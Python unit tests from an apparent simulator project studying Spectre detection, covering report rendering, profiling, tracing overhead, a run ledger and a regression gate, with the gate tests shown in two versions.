        assert format_headline_value("records", 5000) == "5.0k"


class TestSparkline:
    def test_empty_series(self):
        assert _sparkline_svg([]) == ""

    def test_ratio_series_draws_reference_lines(self):
        svg = _sparkline_svg([1.0, 0.4, 0.2])
        assert svg.startswith("<svg")
        assert svg.count("<line") == 2  # detection + evasion
        assert "<polyline" in svg

    def test_unbounded_series_has_no_reference_lines(self):
        svg = _sparkline_svg([10.0, 20.0, 15.0])
        assert "<line" not in svg

    def test_single_point(self):
        assert "<circle" in _sparkline_svg([0.5])


class TestRenderHtml:
    def test_self_contained_document(self):
        html_text = render_html(MANIFEST)
        assert html_text.startswith("<!DOCTYPE html>")
        assert "<script" not in html_text
        assert "http://" not in html_text
        assert "https://" not in html_text

    def test_headline_tiles_and_sparkline(self):
        html_text = render_html(MANIFEST)
        assert "28.6%" in html_text
        assert "spectre_mean_accuracy" in html_text
        assert "<svg" in html_text
        assert "offline/lr" in html_text

    def test_cell_table_rows(self):
        html_text = render_html(MANIFEST)
        assert "training" in html_text
        assert "cycles=5.0k" in html_text
        assert "status-failed" in html_text

    def test_everything_escaped(self):
        html_text = render_html(MANIFEST)
        assert "<mlp>" not in html_text
        assert "&lt;mlp&gt;" in html_text
        assert "boom &amp; bust" in html_text

    def test_gate_checks_colour_tiles(self):
        checks = check_headlines(
            MANIFEST["headlines"],
            {"spectre_mean_accuracy": {"min": 0.8},
             "crspectre_mean_accuracy": {"max": 0.1}},
        )
        html_text = render_html(MANIFEST, checks=checks, profile="quick")
        assert 'class="tile pass"' in html_text
        assert 'class="tile fail"' in html_text
        assert "profile" in html_text

    def test_partial_banner(self):
        html_text = render_html(dict(MANIFEST, partial=True))
        assert "partial run" in html_text

    def test_no_pipeline_section_without_ooo_metrics(self):
        html_text = render_html(MANIFEST)
        assert "Pipeline (out-of-order)" not in html_text

    def test_pipeline_section_aggregates_ooo_cells(self):
        buckets_a = [0] * 22
        buckets_a[2] = 5            # 5 samples at occupancy <= 4
        buckets_b = [0] * 22
        buckets_b[2] = 1
        buckets_b[4] = 3            # 3 samples at occupancy <= 16
        manifest = dict(MANIFEST, metrics={
            "fig5/a": {
                "counters": {"ooo.squashes": 7,
                             "ooo.dispatch_stalls": 100},
                "histograms": {"ooo.rob.occupancy": {
                    "buckets": buckets_a, "count": 5, "sum": 15}},
            },
            "fig5/b": {
                "counters": {"ooo.squashes": 3},
                "histograms": {"ooo.rob.occupancy": {
                    "buckets": buckets_b, "count": 4, "sum": 40}},
            },
        })
        html_text = render_html(manifest)
        assert "Pipeline (out-of-order)" in html_text
        assert "9 samples" in html_text         # 5 + 4 pooled
        assert "ooo.squashes" in html_text      # 7 + 3 summed
        assert ">10<" in html_text
        assert "ooo.dispatch_stalls" in html_text
        assert "&le;4: 6" in html_text          # bucket sum in the bar


class TestHotspotsSection:
    PROFILE = {
        "format": "repro-prof/1",
        "instructions": 1000,
        "cycles": 800.0,
        "subsystems": {
            "execute": {"cycles": 500.0, "events": 700},
            "branch": {"cycles": 250.0, "events": 200},
            "cache_tlb": {"cycles": 50.0, "events": 10},
        },
        "opcodes": {"BEQ": {"count": 200, "cycles": 250.0},
                    "ADD": {"count": 500, "cycles": 400.0}},
        "blocks": [{"start": "0x00400070", "end": "0x00400098",
                    "count": 90, "instructions": 540,
                    "cycles": 600.0}],
    }

    def test_no_section_without_profile(self):
        assert "Hotspots" not in render_html(MANIFEST)

    def test_section_renders_flame_bar_and_tables(self):
        html_text = render_html(dict(MANIFEST, profile=self.PROFILE))
        assert "Hotspots" in html_text
        assert "<svg" in html_text
        assert "<rect" in html_text
        assert "execute" in html_text
        assert "BEQ" in html_text
        assert "0x00400070" in html_text
