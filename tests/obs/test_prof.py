"""The simulator self-profiler: gating, attribution, determinism.

Acceptance properties:

1. **Gating** — a disabled profiler (the default) or an
   enabled-but-fully-filtered one binds nothing: the cores run the
   identical uninstrumented fast path.
2. **Non-perturbation** — an *enabled* profiler observes without
   perturbing: architectural state (cycles, PMU counters, output
   bytes) is bit-identical to an unprofiled run, on both cores.
3. **Determinism** — everything but the ``wall`` section is a pure
   function of (plan, seed): :func:`profile_bytes` is byte-identical
   across serial, warm-pool and dist backends.
"""

import io

import pytest

from repro.exec import (
    ProcessPoolBackend,
    SerialBackend,
    SweepPlan,
    execute_plan,
)
from repro.kernel import System
from repro.obs.prof import (
    NULL_PROFILER,
    PROFILE_FORMAT,
    SUBSYSTEMS,
    ProfileConfig,
    Profiler,
    activate_profile,
    collapsed_stack,
    current_profiler,
    format_hotspots,
    merge_profiles,
    parse_profile_filter,
    profile_bytes,
    strip_profile_volatile,
)
from repro.workloads import get_workload

from tests.obs import cells


def _run_workload(uarch="inorder", iterations=40, profiler=None):
    """One basicmath run, optionally under an ambient profiler."""
    import contextlib

    ctx = (activate_profile(profiler) if profiler is not None
           else contextlib.nullcontext())
    with ctx:
        system = System(seed=5, uarch=uarch)
        system.install_binary(
            "/bin/w",
            get_workload("basicmath").build(iterations=iterations),
        )
        process = system.spawn("/bin/w")
        process.run_to_completion(max_instructions=5_000_000)
    return process


def _arch_state(process):
    return (int(process.cpu.cycles), bytes(process.stdout),
            dict(process.cpu.pmu.read()))


def _snapshot(uarch="inorder"):
    profiler = Profiler()
    _run_workload(uarch=uarch, profiler=profiler)
    return profiler.snapshot()


class TestConfig:
    def test_parse_filter(self):
        assert parse_profile_filter(None) is None
        assert parse_profile_filter("") is None
        assert parse_profile_filter("execute, branch") == \
            ("execute", "branch")
        with pytest.raises(ValueError, match="bogus"):
            parse_profile_filter("bogus")

    def test_active(self):
        assert ProfileConfig().active
        assert ProfileConfig(subsystems=("execute",)).active
        assert not ProfileConfig(subsystems=()).active

    def test_ambient_default_is_null(self):
        assert current_profiler() is NULL_PROFILER
        assert not current_profiler().enabled


class TestGating:
    def test_filtered_profiler_binds_nothing(self):
        filtered = Profiler(ProfileConfig(subsystems=()))
        process = _run_workload(profiler=filtered)
        assert process.cpu._prof is None
        assert filtered.instructions == 0

    def test_active_profiler_binds(self):
        profiler = Profiler()
        process = _run_workload(profiler=profiler)
        assert process.cpu._prof is profiler

    def test_filtered_run_arch_identical_to_unprofiled(self):
        reference = _arch_state(_run_workload())
        filtered = _arch_state(_run_workload(
            profiler=Profiler(ProfileConfig(subsystems=()))
        ))
        assert filtered == reference


class TestNonPerturbation:
    @pytest.mark.parametrize("uarch", ("inorder", "ooo"))
    def test_profiled_arch_state_identical(self, uarch):
        reference = _arch_state(_run_workload(uarch=uarch))
        profiler = Profiler()
        profiled = _arch_state(
            _run_workload(uarch=uarch, profiler=profiler)
        )
        assert profiled == reference
        assert profiler.instructions > 0


class TestSnapshot:
    def test_schema_and_attribution(self):
        snap = _snapshot()
        assert snap["format"] == PROFILE_FORMAT
        assert set(snap["subsystems"]) == set(SUBSYSTEMS)
        assert snap["instructions"] > 0
        assert snap["cycles"] > 0
        assert snap["subsystems"]["execute"]["cycles"] > 0
        assert snap["subsystems"]["branch"]["cycles"] > 0
        assert snap["opcodes"]
        top = snap["blocks"][0]
        assert top["start"].startswith("0x")
        assert top["count"] > 0 and top["cycles"] > 0

    @pytest.mark.parametrize("uarch", ("inorder", "ooo"))
    def test_cycles_reconcile_with_the_core(self, uarch):
        profiler = Profiler()
        process = _run_workload(uarch=uarch, profiler=profiler)
        snap = profiler.snapshot()
        # Attribution is exhaustive up to clamping: the bucketed
        # virtual cycles must land within a few percent of the core's
        # own cycle counter.
        assert snap["cycles"] == pytest.approx(
            float(process.cpu.cycles), rel=0.05
        )

    def test_filter_applies_to_export(self):
        profiler = Profiler(ProfileConfig(subsystems=("branch",)))
        _run_workload(profiler=profiler)
        snap = profiler.snapshot()
        assert set(snap["subsystems"]) == {"branch"}
        # The opcode/block tables ride with the execute subsystem.
        assert "opcodes" not in snap
        assert "blocks" not in snap

    def test_profile_bytes_deterministic_and_wall_free(self):
        first, second = _snapshot(), _snapshot()
        assert profile_bytes(first) == profile_bytes(second)
        assert b'"wall"' not in profile_bytes(first)
        assert "wall" not in strip_profile_volatile(first)
        assert "wall" in first  # the snapshot itself keeps it


class TestMergeAndExport:
    def test_merge_sums_and_reranks(self):
        snap = _snapshot()
        merged = merge_profiles({"a": snap, "b": snap})
        assert merged["instructions"] == 2 * snap["instructions"]
        name, row = next(iter(snap["opcodes"].items()))
        assert merged["opcodes"][name]["count"] == 2 * row["count"]
        assert merged["blocks"][0]["count"] == \
            2 * snap["blocks"][0]["count"]

    def test_collapsed_stack_dimensions(self):
        snap = _snapshot()
        for by in ("subsystem", "opcode", "block"):
            lines = collapsed_stack({"cell": snap}, by=by).splitlines()
            assert lines
            frame, count = lines[0].rsplit(" ", 1)
            assert frame.startswith("cell;")
            assert int(count) > 0
        with pytest.raises(ValueError, match="dimension"):
            collapsed_stack({"cell": snap}, by="bogus")

    def test_format_hotspots_tables(self):
        out = format_hotspots(merge_profiles({"a": _snapshot()}), top=5)
        assert "subsystem" in out
        assert "opcode" in out
        assert "basic block" in out


def _plan():
    plan = SweepPlan("profgolden", 7)
    plan.add("attack", cells.spectre_cell, kwargs=dict(samples=2),
             seed_kw="cell_seed")
    plan.add("cpu", cells.cpu_cell, kwargs=dict(iterations=15),
             seed_kw="cell_seed")
    return plan


def _profiles(backend=None):
    profiles = {}
    execute_plan(_plan(), backend=backend, profile=ProfileConfig(),
                 profiles=profiles)
    return {key: profile_bytes(snapshot)
            for key, snapshot in profiles.items()}


class TestBackendParity:
    def test_serial_fills_profiles_in_declaration_order(self):
        profiles = {}
        execute_plan(_plan(), backend=SerialBackend(),
                     profile=ProfileConfig(), profiles=profiles)
        assert list(profiles) == ["attack", "cpu"]

    def test_serial_equals_pool(self):
        assert _profiles(SerialBackend()) == \
            _profiles(ProcessPoolBackend(2))

    def test_serial_equals_dist(self):
        from repro.exec.dist import DistBackend
        from tests.exec.test_dist import _Cluster

        serial = _profiles(SerialBackend())
        cluster = _Cluster(lease_timeout=5.0)
        cluster.start_worker("w0")
        try:
            dist = _profiles(DistBackend(cluster.address,
                                         stream=io.StringIO()))
        finally:
            cluster.stop()
        assert dist == serial


class TestExecutorPhases:
    def test_phase_breakdown_filled(self):
        phases = {}
        execute_plan(_plan(), backend=SerialBackend(), phases=phases)
        assert set(phases) == {"schedule", "cache_lookup", "compute",
                               "ipc", "merge"}
        assert all(seconds >= 0.0 for seconds in phases.values())
        assert phases["compute"] > 0.0

    def test_progress_phases_line(self):
        from repro.exec import SweepProgress

        stream = io.StringIO()
        progress = SweepProgress("fig5", total=4, stream=stream)
        progress.phases({"schedule": 0.0001, "compute": 1.25,
                         "ipc": 0.5, "merge": 0.02,
                         "cache_lookup": 0.0})
        line = stream.getvalue()
        assert "compute 1.25s" in line
        assert "ipc 0.50s" in line
        assert "schedule" not in line  # sub-5ms phases elided
