"""Overhead guards: disabled tracing must stay off the hot path.

Two layers of defence: a *structural* check that no channel is bound
(so the step loop cannot even reach an emission site), and a *timing*
guard comparing an untraced run against an enabled-but-fully-filtered
tracer — the configuration whose cost is pure bookkeeping.  The real
numbers live in ``benchmarks/bench_obs.py``; the guard here only
catches accidental hot-path instrumentation.
"""

import time

from repro.kernel.system import System
from repro.obs.tracer import NULL, TraceConfig, Tracer, activate, \
    current_tracer
from repro.workloads import get_workload


def _run_workload(iterations=30):
    system = System(seed=0)
    system.install_binary(
        "/bin/w", get_workload("basicmath").build(iterations=iterations)
    )
    process = system.spawn("/bin/w")
    process.run_to_completion(max_instructions=5_000_000)
    return process


class TestStructure:
    def test_default_cpu_binds_no_channels(self):
        assert current_tracer() is NULL
        process = _run_workload(iterations=5)
        cpu = process.cpu
        assert cpu._tracer is None
        assert cpu._tr_cpu is None
        assert cpu._tr_kernel is None
        assert cpu.trace_clk == 0
        assert cpu.caches._trace is None
        assert cpu.caches.l1d._trace is None

    def test_filtered_tracer_binds_no_channels(self):
        tracer = Tracer(TraceConfig(categories=()))
        with activate(tracer):
            process = _run_workload(iterations=5)
        assert process.cpu._tr_cpu is None
        assert process.cpu.caches._trace is None
        assert tracer.records == []
        # The clock still registered: finalize can report cycles.
        assert process.cpu.trace_clk == 1

    def test_full_tracer_records_something(self):
        tracer = Tracer()
        with activate(tracer):
            _run_workload(iterations=5)
        tracer.finalize()
        assert len(tracer.records) > 0
        assert tracer.metrics.gauges["cpu.cycles"] > 0


class TestTimingGuard:
    def test_disabled_tracing_overhead_is_small(self):
        """NULL vs enabled-but-filtered: both bind nothing, so the only
        admissible cost is Tracer construction — not per-instruction
        work.  Generous factor: this is a regression tripwire, not a
        benchmark."""
        def timed(tracer):
            best = float("inf")
            for _ in range(3):
                started = time.perf_counter()
                if tracer is None:
                    _run_workload()
                else:
                    with activate(Tracer(TraceConfig(categories=()))):
                        _run_workload()
                best = min(best, time.perf_counter() - started)
            return best

        untraced = timed(None)
        filtered = timed(Tracer)
        assert filtered <= untraced * 2.0, (
            f"filtered tracing cost {filtered / untraced:.2f}x the "
            f"untraced run — something instruments the hot path"
        )
