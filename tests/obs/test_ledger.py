"""Unit tests for the run ledger (manifests, index, resume parity)."""

import dataclasses
import json
import os

import pytest

from repro.core.experiments import run_fig4
from repro.obs.ledger import (
    LEDGER_FORMAT,
    LEDGER_INDEX,
    LEDGER_SHARDS,
    build_manifest,
    consolidate_index,
    file_digest,
    git_sha,
    load_manifest,
    manifest_bytes,
    read_index,
    run_id_for,
    stable_hash,
    strip_volatile,
    write_manifest,
)

#: Smoke-scale fig4 knobs: full plan topology, seconds not minutes.
TINY = dict(seed=5, hosts=("basicmath",), classifier="lr",
            benign_per_host=40, attack_per_variant=16, variants=("v1",))

TINY_CONFIG = {"experiment": "fig4", **{k: list(v) if isinstance(v, tuple)
                                        else v for k, v in TINY.items()}}


@dataclasses.dataclass
class FakeResult:
    cell_status: dict
    cell_metrics: dict
    partial: bool = False

    def headlines(self):
        return {"accuracy": 0.97}

    def series(self):
        return {"accuracy_by_size": [0.5, 0.9, 0.97]}


def _fake_result():
    return FakeResult(
        cell_status={"host/a": {"status": "ok"},
                     "host/b": {"status": "cached"}},
        cell_metrics={"host/a": {"counters": {"cache.miss": 3}}},
    )


class TestHashing:
    def test_stable_hash_is_key_order_free(self):
        assert stable_hash({"a": 1, "b": 2}) == stable_hash({"b": 2, "a": 1})

    def test_stable_hash_differs_on_value(self):
        assert stable_hash({"a": 1}) != stable_hash({"a": 2})

    def test_run_id_shape(self):
        run_id = run_id_for("fig4", {"seed": 0})
        assert run_id.startswith("fig4-")
        assert len(run_id) == len("fig4-") + 12
        assert run_id == run_id_for("fig4", {"seed": 0})

    def test_file_digest(self, tmp_path):
        path = tmp_path / "x"
        path.write_bytes(b"hello")
        assert file_digest(path) == (
            "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824"
        )


class TestGitSha:
    def test_inside_repo(self):
        sha = git_sha(os.path.join(os.path.dirname(__file__), "..", ".."))
        assert sha is not None
        assert len(sha) == 40
        int(sha, 16)

    def test_outside_repo(self, tmp_path):
        assert git_sha(tmp_path) is None


class TestBuildManifest:
    def test_basic_shape(self):
        manifest = build_manifest("fig4", {"seed": 5}, _fake_result())
        assert manifest["format"] == LEDGER_FORMAT
        assert manifest["run_id"] == run_id_for("fig4", {"seed": 5})
        assert manifest["seed"] == 5
        assert manifest["config_hash"] == stable_hash({"seed": 5})
        assert manifest["headlines"] == {"accuracy": 0.97}
        assert manifest["series"]["accuracy_by_size"][-1] == 0.97
        assert manifest["partial"] is False

    def test_cached_status_normalised_to_ok(self):
        manifest = build_manifest("fig4", {"seed": 5}, _fake_result())
        statuses = {c["key"]: c["status"] for c in manifest["cells"]}
        assert statuses == {"host/a": "ok", "host/b": "ok"}

    def test_trace_paths_relative_to_root(self, tmp_path):
        sink = tmp_path / "run" / "fig4.trace.jsonl"
        sink.parent.mkdir()
        sink.write_text("x\n")
        manifest = build_manifest(
            "fig4", {"seed": 5}, _fake_result(),
            trace_files={"jsonl": str(sink)},
            trace_root=str(tmp_path / "run"),
        )
        assert manifest["traces"]["jsonl"]["path"] == "fig4.trace.jsonl"
        outside = build_manifest(
            "fig4", {"seed": 5}, _fake_result(),
            trace_files={"jsonl": str(sink)},
            trace_root=str(tmp_path / "elsewhere"),
        )
        assert outside["traces"]["jsonl"]["path"] == str(sink)

    def test_volatile_timing_stripped(self):
        manifest = build_manifest("fig4", {"seed": 5}, _fake_result(),
                                  timing={"wall_s": 12.5})
        assert manifest["timing"] == {"wall_s": 12.5}
        assert "timing" not in strip_volatile(manifest)
        other = build_manifest("fig4", {"seed": 5}, _fake_result(),
                               timing={"wall_s": 99.0})
        assert manifest_bytes(manifest) == manifest_bytes(other)

    def test_degraded_result_headlines_survive(self):
        class Broken(FakeResult):
            def headlines(self):
                raise ZeroDivisionError("no completed cells")

        manifest = build_manifest(
            "fig4", {"seed": 5},
            Broken(cell_status={}, cell_metrics={}, partial=True),
        )
        assert manifest["headlines"] == {}
        assert manifest["partial"] is True


class TestWriteLoadIndex:
    def test_round_trip(self, tmp_path):
        manifest = build_manifest("fig4", {"seed": 5}, _fake_result(),
                                  timing={"wall_s": 1.0})
        path = write_manifest(tmp_path, manifest)
        assert os.path.basename(path) == "manifest.json"

        by_path = load_manifest(path)
        by_dir = load_manifest(os.path.dirname(path))
        by_id = load_manifest(manifest["run_id"], ledger_dir=tmp_path)
        for loaded in (by_path, by_dir, by_id):
            assert strip_volatile(loaded) == strip_volatile(manifest)

        entries = read_index(tmp_path)
        assert len(entries) == 1
        assert entries[0]["run_id"] == manifest["run_id"]
        assert entries[0]["headlines"] == {"accuracy": 0.97}
        assert entries[0]["wall_s"] == 1.0

    def test_rewrite_replaces_index_line(self, tmp_path):
        manifest = build_manifest("fig4", {"seed": 5}, _fake_result())
        write_manifest(tmp_path, manifest)
        write_manifest(tmp_path, manifest)
        other = build_manifest("fig4", {"seed": 6}, _fake_result())
        write_manifest(tmp_path, other)
        entries = read_index(tmp_path)
        assert [e["run_id"] for e in entries] == [
            manifest["run_id"], other["run_id"]
        ]

    def test_load_missing_raises(self, tmp_path):
        with pytest.raises(OSError):
            load_manifest("nope", ledger_dir=tmp_path)

    def test_load_wrong_format_raises(self, tmp_path):
        path = tmp_path / "manifest.json"
        path.write_text(json.dumps({"format": "wrong/0"}))
        with pytest.raises(ValueError):
            load_manifest(str(path))

    def test_read_index_empty_ledger(self, tmp_path):
        assert read_index(tmp_path) == []


def _record(ledger, seed, accuracy=0.97):
    result = _fake_result()
    result.headlines = lambda: {"accuracy": accuracy}
    manifest = build_manifest("fig4", {"seed": seed}, result)
    write_manifest(ledger, manifest)
    return manifest["run_id"]


class TestIndexShards:
    """The shard-then-consolidate discipline behind concurrent writers."""

    def _shard_files(self, ledger):
        shard_dir = os.path.join(ledger, LEDGER_SHARDS)
        if not os.path.isdir(shard_dir):
            return []
        return [name for name in os.listdir(shard_dir)
                if name.endswith(".json")]

    def test_write_consolidates_its_own_shard(self, tmp_path):
        ledger = str(tmp_path)
        run_id = _record(ledger, seed=1)
        # The writer held the lock, so the shard was folded straight in.
        assert self._shard_files(ledger) == []
        assert [e["run_id"] for e in read_index(ledger)] == [run_id]

    def test_unconsolidated_shard_is_still_visible(self, tmp_path):
        ledger = str(tmp_path)
        lock = tmp_path / (LEDGER_INDEX + ".lock")
        lock.touch()                    # a rival holds the lock
        run_id = _record(ledger, seed=1)
        assert self._shard_files(ledger) == [f"{run_id}.json"]
        # Merge-on-read: the entry is visible without the monolith.
        assert [e["run_id"] for e in read_index(ledger)] == [run_id]

        lock.unlink()
        assert consolidate_index(ledger)
        assert self._shard_files(ledger) == []
        assert [e["run_id"] for e in read_index(ledger)] == [run_id]

    def test_shard_supersedes_monolith_in_place(self, tmp_path):
        ledger = str(tmp_path)
        first = _record(ledger, seed=1)
        second = _record(ledger, seed=2)
        lock = tmp_path / (LEDGER_INDEX + ".lock")
        lock.touch()
        assert _record(ledger, seed=1, accuracy=0.5) == first
        third = _record(ledger, seed=3)
        entries = read_index(ledger)
        # Order: monolith order with the re-recorded run replaced in
        # place, then the genuinely new run.
        assert [e["run_id"] for e in entries] == [first, second, third]
        assert entries[0]["headlines"] == {"accuracy": 0.5}
        lock.unlink()

    def test_stale_lock_is_broken(self, tmp_path):
        ledger = str(tmp_path)
        lock = tmp_path / (LEDGER_INDEX + ".lock")
        lock.touch()
        ancient = os.path.getmtime(lock) - 3600.0
        os.utime(lock, (ancient, ancient))
        run_id = _record(ledger, seed=4)
        # The dead rival's lock did not wedge consolidation forever.
        assert self._shard_files(ledger) == []
        assert [e["run_id"] for e in read_index(ledger)] == [run_id]

    def test_concurrent_recorders_lose_nothing(self, tmp_path):
        """The race the shards exist for: N writers, one ledger, no
        read-modify-write, every entry survives."""
        import threading

        ledger = str(tmp_path)
        start = threading.Barrier(8)
        recorded = []

        def record(seed):
            start.wait()
            recorded.append(_record(ledger, seed=seed))

        threads = [threading.Thread(target=record, args=(seed,))
                   for seed in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

        entries = read_index(ledger)
        assert sorted(e["run_id"] for e in entries) == sorted(recorded)
        assert len(entries) == 8
        # A final consolidation folds any shards the racers left.
        assert consolidate_index(ledger)
        assert self._shard_files(ledger) == []
        assert len(read_index(ledger)) == 8


class TestResumeParity:
    def test_cached_rerun_manifest_is_byte_identical(self, tmp_path):
        """The acceptance contract: a resumed (fully cached) run and a
        fresh run produce the same manifest minus wall-clock."""
        manifests = []
        for attempt in range(2):
            statuses = {}
            result = run_fig4(checkpoint=str(tmp_path / "ck"), **TINY)
            manifests.append(build_manifest(
                "fig4", TINY_CONFIG, result,
                statuses=result.cell_status,
                timing={"wall_s": float(attempt)},
            ))
        statuses = [
            {c["key"]: c["status"] for c in m["cells"]}
            for m in manifests
        ]
        # Second run was served from the checkpoint...
        assert all(s == "ok" for s in statuses[1].values())
        # ...and the manifests agree byte-for-byte minus timing.
        assert manifest_bytes(manifests[0]) == manifest_bytes(manifests[1])
        assert manifests[0]["timing"] != manifests[1]["timing"]
