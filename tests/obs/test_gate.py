"""Unit tests for the headline regression gate (``repro gate``)."""

import json

import pytest

from repro.obs.gate import (
    EXPECTATIONS_FORMAT,
    ExpectationsError,
    bands_for,
    check_headlines,
    format_gate,
    gate_passed,
    load_expectations,
)

BANDS = {"accuracy": {"min": 0.8}, "evasion": {"max": 0.55}}


def _expectations_file(tmp_path, payload=None):
    path = tmp_path / "expectations.json"
    if payload is None:
        payload = {"format": EXPECTATIONS_FORMAT,
                   "profiles": {"quick": {"fig4": BANDS}}}
    path.write_text(json.dumps(payload))
    return str(path)


class TestLoadExpectations:
    def test_valid_file_loads(self, tmp_path):
        expectations = load_expectations(_expectations_file(tmp_path))
        assert "quick" in expectations["profiles"]

    def test_wrong_format_rejected(self, tmp_path):
        path = _expectations_file(tmp_path, {"format": "wrong/9",
                                             "profiles": {"q": {}}})
        with pytest.raises(ExpectationsError, match="unknown format"):
            load_expectations(path)

    def test_missing_profiles_rejected(self, tmp_path):
        path = _expectations_file(
            tmp_path, {"format": EXPECTATIONS_FORMAT, "profiles": {}}
        )
        with pytest.raises(ExpectationsError, match="no profiles"):
            load_expectations(path)

    def test_band_without_bound_rejected(self, tmp_path):
        path = _expectations_file(tmp_path, {
            "format": EXPECTATIONS_FORMAT,
            "profiles": {"quick": {"fig4": {"accuracy": {}}}},
        })
        with pytest.raises(ExpectationsError, match="min.*max"):
            load_expectations(path)

    def test_committed_expectations_are_valid(self):
        import pathlib

        root = pathlib.Path(__file__).parent.parent.parent
        expectations = load_expectations(root / "expectations.json")
        for profile in ("quick", "full"):
            for experiment in ("fig4", "fig5", "fig6", "table1",
                               "hardening"):
                assert bands_for(expectations, experiment,
                                 profile=profile)


class TestBandsFor:
    def test_resolves(self, tmp_path):
        expectations = load_expectations(_expectations_file(tmp_path))
        assert bands_for(expectations, "fig4", profile="quick") == BANDS

    def test_unknown_profile_raises(self, tmp_path):
        expectations = load_expectations(_expectations_file(tmp_path))
        with pytest.raises(ExpectationsError, match="no profile"):
            bands_for(expectations, "fig4", profile="nope")

    def test_unknown_experiment_raises(self, tmp_path):
        expectations = load_expectations(_expectations_file(tmp_path))
        with pytest.raises(ExpectationsError, match="no bands"):
            bands_for(expectations, "fig9", profile="quick")


class TestCheckHeadlines:
    def test_in_band_passes(self):
        checks = check_headlines({"accuracy": 0.97, "evasion": 0.3},
                                 BANDS)
        assert gate_passed(checks)

    def test_below_min_fails(self):
        checks = check_headlines({"accuracy": 0.7, "evasion": 0.3},
                                 BANDS)
        assert not gate_passed(checks)
        failed = next(c for c in checks if not c["ok"])
        assert failed["headline"] == "accuracy"
        assert "min" in failed["reason"]

    def test_above_max_fails(self):
        checks = check_headlines({"accuracy": 0.97, "evasion": 0.9},
                                 BANDS)
        assert not gate_passed(checks)

    def test_missing_headline_is_a_regression(self):
        checks = check_headlines({"accuracy": 0.97}, BANDS)
        assert not gate_passed(checks)
        failed = next(c for c in checks if not c["ok"])
        assert failed["headline"] == "evasion"
        assert "missing" in failed["reason"]

    def test_tightened_band_flips_verdict(self):
        headlines = {"accuracy": 0.85, "evasion": 0.3}
        assert gate_passed(check_headlines(headlines, BANDS))
        tightened = {"accuracy": {"min": 0.9}, "evasion": {"max": 0.55}}
        assert not gate_passed(check_headlines(headlines, tightened))


class TestFormatGate:
    MANIFEST = {"experiment": "fig4", "run_id": "fig4-abc",
                "partial": False}

    def test_pass_verdict(self):
        checks = check_headlines({"accuracy": 0.97, "evasion": 0.3},
                                 BANDS)
        text = format_gate(self.MANIFEST, "quick", checks)
        assert "[PASS]" in text
        assert "fig4-abc" in text

    def test_regression_verdict_shows_reason(self):
        checks = check_headlines({"accuracy": 0.5, "evasion": 0.3},
                                 BANDS)
        text = format_gate(self.MANIFEST, "quick", checks)
        assert "[REGRESSION]" in text
        assert "FAIL" in text

    def test_partial_run_noted(self):
        manifest = dict(self.MANIFEST, partial=True)
        checks = check_headlines({"accuracy": 0.97, "evasion": 0.3},
                                 BANDS)
        assert "PARTIAL" in format_gate(manifest, "quick", checks)
