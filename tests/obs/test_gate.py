"""Unit tests for the headline regression gate (``repro gate``)."""

import json

import pytest

from repro.obs.gate import (
    EXPECTATIONS_FORMAT,
    ExpectationsError,
    bands_for,
    check_headlines,
    format_gate,
    gate_passed,
    load_expectations,
)

BANDS = {"accuracy": {"min": 0.8}, "evasion": {"max": 0.55}}

#: Flat bands plus a per-microarchitecture overlay (docs/MICROARCH.md).
UARCH_BANDS = dict(BANDS, uarch={"ooo": {"accuracy": {"min": 0.9}}})


def _expectations_file(tmp_path, payload=None):
    path = tmp_path / "expectations.json"
    if payload is None:
        payload = {"format": EXPECTATIONS_FORMAT,
                   "profiles": {"quick": {"fig4": BANDS}}}
    path.write_text(json.dumps(payload))
    return str(path)


class TestLoadExpectations:
    def test_valid_file_loads(self, tmp_path):
        expectations = load_expectations(_expectations_file(tmp_path))
        assert "quick" in expectations["profiles"]

    def test_wrong_format_rejected(self, tmp_path):
        path = _expectations_file(tmp_path, {"format": "wrong/9",
                                             "profiles": {"q": {}}})
        with pytest.raises(ExpectationsError, match="unknown format"):
            load_expectations(path)

    def test_missing_profiles_rejected(self, tmp_path):
        path = _expectations_file(
            tmp_path, {"format": EXPECTATIONS_FORMAT, "profiles": {}}
        )
        with pytest.raises(ExpectationsError, match="no profiles"):
            load_expectations(path)

    def test_band_without_bound_rejected(self, tmp_path):
        path = _expectations_file(tmp_path, {
            "format": EXPECTATIONS_FORMAT,
            "profiles": {"quick": {"fig4": {"accuracy": {}}}},
        })
        with pytest.raises(ExpectationsError, match="min.*max"):
            load_expectations(path)

    def test_committed_expectations_are_valid(self):
        import pathlib

        root = pathlib.Path(__file__).parent.parent.parent
        expectations = load_expectations(root / "expectations.json")
        for profile in ("quick", "full"):
            for experiment in ("fig4", "fig5", "fig6", "table1",
                               "hardening"):
                for uarch in (None, "inorder", "ooo"):
                    assert bands_for(expectations, experiment,
                                     profile=profile, uarch=uarch)

    def test_committed_ooo_overlays_resolve(self):
        import pathlib

        root = pathlib.Path(__file__).parent.parent.parent
        expectations = load_expectations(root / "expectations.json")
        flat = bands_for(expectations, "fig5", profile="quick")
        ooo = bands_for(expectations, "fig5", profile="quick",
                        uarch="ooo")
        assert set(ooo) == set(flat)        # overlays override, not add
        assert ooo != flat                  # and genuinely differ

    def test_uarch_overlay_accepted(self, tmp_path):
        path = _expectations_file(tmp_path, {
            "format": EXPECTATIONS_FORMAT,
            "profiles": {"quick": {"fig4": UARCH_BANDS}},
        })
        assert load_expectations(path)

    def test_uarch_section_must_be_a_dict(self, tmp_path):
        path = _expectations_file(tmp_path, {
            "format": EXPECTATIONS_FORMAT,
            "profiles": {"quick": {"fig4": dict(BANDS, uarch="ooo")}},
        })
        with pytest.raises(ExpectationsError,
                           match="quick/fig4/uarch.*microarchitecture"):
            load_expectations(path)

    def test_uarch_overlay_must_be_a_band_dict(self, tmp_path):
        path = _expectations_file(tmp_path, {
            "format": EXPECTATIONS_FORMAT,
            "profiles": {"quick": {"fig4": dict(BANDS,
                                                uarch={"ooo": 0.9})}},
        })
        with pytest.raises(ExpectationsError, match="uarch/ooo"):
            load_expectations(path)

    def test_uarch_overlay_band_without_bound_rejected(self, tmp_path):
        path = _expectations_file(tmp_path, {
            "format": EXPECTATIONS_FORMAT,
            "profiles": {"quick": {"fig4": dict(
                BANDS, uarch={"ooo": {"accuracy": {}}}
            )}},
        })
        with pytest.raises(ExpectationsError,
                           match="quick/fig4/uarch/ooo/accuracy"):
            load_expectations(path)


class TestBandsFor:
    def test_resolves(self, tmp_path):
        expectations = load_expectations(_expectations_file(tmp_path))
        assert bands_for(expectations, "fig4", profile="quick") == BANDS

    def test_unknown_profile_raises(self, tmp_path):
